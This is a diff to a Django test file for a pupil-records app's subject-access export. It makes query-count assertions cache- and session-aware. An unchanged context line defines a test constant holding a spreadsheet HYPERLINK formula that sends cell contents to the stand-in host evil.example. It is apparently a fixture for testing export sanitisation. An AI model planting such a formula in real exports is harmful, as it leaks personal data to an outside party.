@@ -25,6 +25,7 @@ from pupils.services_retention import (
     retention_cutoff,
     years_before,
 )
+from sencotrack import freshness
 from tests import factories as f
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -247,15 +248,19 @@ def test_the_export_takes_the_same_number_of_queries_however_much_is_held(person
     fill(personas.other_pupil, rows=3, author=personas.senco)
     counts = []
     for pupil in (personas.pupil, personas.other_pupil):
+        freshness.new_epoch()  # each measured with nothing cached
         with CaptureQueriesContext(connection) as queries:
             assert client.get(reverse("pupils:subject_access", args=[pupil.public_id])).status_code == 200
         counts.append(len(queries))
     assert counts[0] == counts[1]
-    # session + user + membership (3), pupil (1), its school (1), one per table (15 today), one
-    # per audit-history table, and the access-log entry (1)
+    # session (from Redis in production mode) + user + membership (3), pupil (1), its school (1),
+    # one per table (16 today), one per audit-history table, and the access-log entry (1)
+    from django.conf import settings
+
     from pupils.subject_access import _history, export_tables
 
-    assert counts[0] == 6 + len(export_tables()) + len(_history(personas.pupil))
+    session = 0 if settings.SESSION_ENGINE == "sencotrack.sessions" else 1
+    assert counts[0] == 5 + session + len(export_tables()) + len(_history(personas.pupil))
 
 
 # --- archive_leavers ------------------------------------------------------------------------------
